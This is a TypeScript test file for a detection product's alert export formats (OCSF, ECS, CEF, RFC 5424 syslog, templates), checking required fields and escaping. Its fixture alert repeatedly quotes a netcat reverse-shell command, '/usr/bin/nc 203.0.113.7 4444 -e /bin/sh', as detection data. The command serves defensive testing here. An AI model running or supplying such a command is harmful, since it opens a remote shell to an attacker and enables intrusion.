// Each delivery format against its specification's required fields, and every format carrying the facts an
// analyst needs without a second lookup (rule id, title, author, level, MITRE, host name, user, command line, file
// path, destination): OCSF 1.1 Detection Finding (class 2004: the class's required attributes and their enums),
// ECS 8 (@timestamp, ecs.version, event.kind/category/type from their allowed values), ArcSight CEF:0 (seven
// header fields, severity 0-10, escaping), RFC 5424 (the ABNF of the header and structured data, escaping), and
// templates (unknown fields found, empty values shown as '-').

import { test } from 'node:test';
import assert from 'node:assert/strict';
import { cef, ecs, factsOf, ocsf, renderTemplate, syslog5424, tagsOf, unknownTemplateFields, vigilJson } from '../../src/alerts/formats.ts';
import { alertDoc } from './support.ts';

const alert = alertDoc(3);
const KEY_FACTS = ['vigil-netcat-reverse-shell', 'Netcat reverse shell', 'Vigil', 'T1059.004', 'web-3.example', 'www-data', '/usr/bin/nc 203.0.113.7 4444 -e /bin/sh', '/tmp/.x/payload', '203.0.113.7'];

test('the facts come from the alert and its events', () => {
  const f = factsOf(alert);
  assert.deepEqual([f.ruleId, f.ruleTitle, f.ruleAuthor, f.level, f.hostName, f.user, f.commandLine, f.filePath, f.destinationIp, f.destinationPort],
    ['vigil-netcat-reverse-shell', 'Netcat reverse shell', 'Vigil', 'high', 'web-3.example', 'www-data', '/usr/bin/nc 203.0.113.7 4444 -e /bin/sh', '/tmp/.x/payload', '203.0.113.7', 4444]);
  assert.deepEqual(f.tactics, ['Execution', 'Command and Control']);
  assert.deepEqual(tagsOf(f), ['attack.t1059.004', 'attack.t1095', 'attack.execution', 'attack.command_and_control']);
  const bare = factsOf({ id: 'a', tenant_id: 't', rule: { id: 'r', title: 'T', level: 'low' }, first_seen: 'x', last_seen: 'x' });
  assert.deepEqual([bare.hostName, bare.user, bare.commandLine, bare.destinationPort], ['', '', '', null], 'missing facts are empty, not errors');
});

test('OCSF Detection Finding (2004): required attributes, enums, and the key facts', () => {
  const o = ocsf(alert);
  for (const required of ['activity_id', 'category_uid', 'class_uid', 'finding_info', 'metadata', 'severity_id', 'time', 'type_uid']) assert.ok(required in o, required);
  assert.deepEqual([o.class_uid, o.category_uid, o.activity_id, o.type_uid], [2004, 2, 1, 2004 * 100 + 1], 'type_uid = class_uid * 100 + activity_id');
  assert.ok(o.severity_id >= 0 && o.severity_id <= 6 && o.severity_id === 4, 'high → 4');
  assert.equal(typeof o.time, 'number');
  assert.equal(o.metadata.version, '1.1.0');
  assert.ok(o.metadata.product.name && o.metadata.product.vendor_name);
  assert.ok(o.finding_info.uid && o.finding_info.title, 'finding_info.uid and title');
  assert.deepEqual([o.finding_info.analytic.uid, o.finding_info.analytic.type_id], ['vigil-netcat-reverse-shell', 1]);
  assert.deepEqual(o.finding_info.attacks.map((x) => [x.technique.uid, x.tactics.map((t) => t.name)]), [['T1059.004', ['Execution']], ['T1095', ['Command and Control']]], 'each technique with its own tactics');
  assert.equal(o.device.hostname, 'web-3.example');
  assert.equal(o.actor.user.name, 'www-data');
  assert.equal(o.evidences[0].file?.path, '/tmp/.x/payload');
  assert.deepEqual(o.evidences[0].dst_endpoint, { ip: '203.0.113.7', port: 4444 });
  assert.equal(o.unmapped.rule_author, 'Vigil');
  for (const fact of KEY_FACTS) assert.ok(JSON.stringify(o).includes(fact), fact);
});

test('ECS: @timestamp, ecs.version, allowed event categorisation, and the key facts', () => {
  const e = ecs(alert);
  assert.match(e['@timestamp'], /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);
  assert.match(e.ecs.version, /^8\.\d+\.\d+$/);
  assert.equal(e.event.kind, 'alert');
  assert.ok(e.event.category.every((c) => ['intrusion_detection', 'malware', 'process', 'network', 'file', 'threat'].includes(c)));
  assert.ok(e.event.type.every((t) => ['info', 'allowed', 'denied'].includes(t)), 'types allowed with intrusion_detection');
  assert.deepEqual([e.rule.id, e.rule.name, e.rule.author, e.host.name, e.user.name, e.process.command_line, e.file?.path, e.destination?.ip, e.destination?.port],
    ['vigil-netcat-reverse-shell', 'Netcat reverse shell', ['Vigil'], 'web-3.example', 'www-data', '/usr/bin/nc 203.0.113.7 4444 -e /bin/sh', '/tmp/.x/payload', '203.0.113.7', 4444]);
  assert.deepEqual(e.threat.map((t) => [t.framework, t.technique[0].id, t.tactic.name]), [['MITRE ATT&CK', 'T1059.004', ['Execution']], ['MITRE ATT&CK', 'T1095', ['Command and Control']]]);
  assert.equal(e.event.severity, 73);
});

test('CEF:0: seven header fields, severity 0-10, escaping, and the key facts', () => {
  const line = cef(alertDoc(4, { rule: { id: 'r|1', title: 'pipe | and back\\slash', author: 'A=B', level: 'critical' } }));
  // Seven header fields end in an unescaped '|'; the extension may hold '|' unescaped (the CEF specification).
  const m = /^((?:[^|\\]|\\.)*)\|((?:[^|\\]|\\.)*)\|((?:[^|\\]|\\.)*)\|((?:[^|\\]|\\.)*)\|((?:[^|\\]|\\.)*)\|((?:[^|\\]|\\.)*)\|((?:[^|\\]|\\.)*)\|(.*)$/.exec(line);
  assert.ok(m, 'CEF:Version|Vendor|Product|Version|Signature ID|Name|Severity|Extension');
  const header = m.slice(1);
  assert.equal(header[0], 'CEF:0');
  assert.deepEqual(header.slice(4, 7), ['r\\|1', 'pipe \\| and back\\\\slash', '10']);
  assert.match(header[7], /cs2Label=ruleAuthor cs2=A\\=B/, '= escaped in extension values');
  const plain = cef(alert);
  const severity = Number(plain.split('|')[6]);
  assert.ok(severity >= 0 && severity <= 10);
  for (const fact of ['cs1=vigil-netcat-reverse-shell', 'dhost=web-3.example', 'duser=www-data', 'cs6=/usr/bin/nc 203.0.113.7 4444 -e /bin/sh', 'filePath=/tmp/.x/payload', 'dst=203.0.113.7', 'dpt=4444', 'cs3=T1059.004,T1095', 'cs2=Vigil']) {
    assert.ok(plain.includes(fact), fact);
  }
});

test('RFC 5424: header and structured data as the ABNF says, escaping inside PARAM-VALUE', () => {
  const a = alertDoc(5, { rule: { id: 'r1', title: 'quote " bracket ] back \\', author: 'Vigil', level: 'medium' } });
  const msg = syslog5424(a, 'the body', 'host name with spaces', new Date('2026-01-02T03:04:05.678Z'));
  const m = /^<(\d{1,3})>1 (\S+) (\S{1,255}) (\S{1,48}) (\S{1,128}) (\S{1,32}) (\[.*\]) \uFEFF(.*)$/s.exec(msg);
  assert.ok(m, msg);
  assert.equal(Number(m[1]), 4 * 8 + 4, 'security facility, warning for medium');
  assert.equal(m[2], '2026-01-02T03:04:05.678Z');
  assert.equal(m[3], 'host_name_with_spaces', 'PRINTUSASCII only');
  assert.deepEqual([m[4], m[5], m[6]], ['vigil', '-', 'alert.medium']);
  assert.match(m[7], /^\[vigil@32473( [a-z_]+="(?:[^"\\\]]|\\["\\\]])*")+\]$/, 'SD-ELEMENT with escaped PARAM-VALUEs');
  assert.ok(m[7].includes('rule_title="quote \\" bracket \\] back \\\\"'));
  assert.equal(m[8], 'the body');
});

test('Vigil JSON keeps the API\'s alert and adds the summary; templates', () => {
  const v = vigilJson(alert);
  assert.equal(v.id, 'alert-3');
  assert.deepEqual(v.summary.rule, { id: 'vigil-netcat-reverse-shell', title: 'Netcat reverse shell', author: 'Vigil', level: 'high' });
  assert.deepEqual([v.summary.file_path, v.summary.destination], ['/tmp/.x/payload', '203.0.113.7:4444']);
  assert.equal(renderTemplate('{{rule.title}} / {{host}} / {{file.path}} / {{destination}} / {{rule.description}}', factsOf({ ...alert, rule: { ...alert.rule, description: undefined } })),
    'Netcat reverse shell / web-3.example / /tmp/.x/payload / 203.0.113.7:4444 / -');
  assert.deepEqual(unknownTemplateFields('{{rule.title}} {{nope}} {{ host }}'), ['nope']);
});
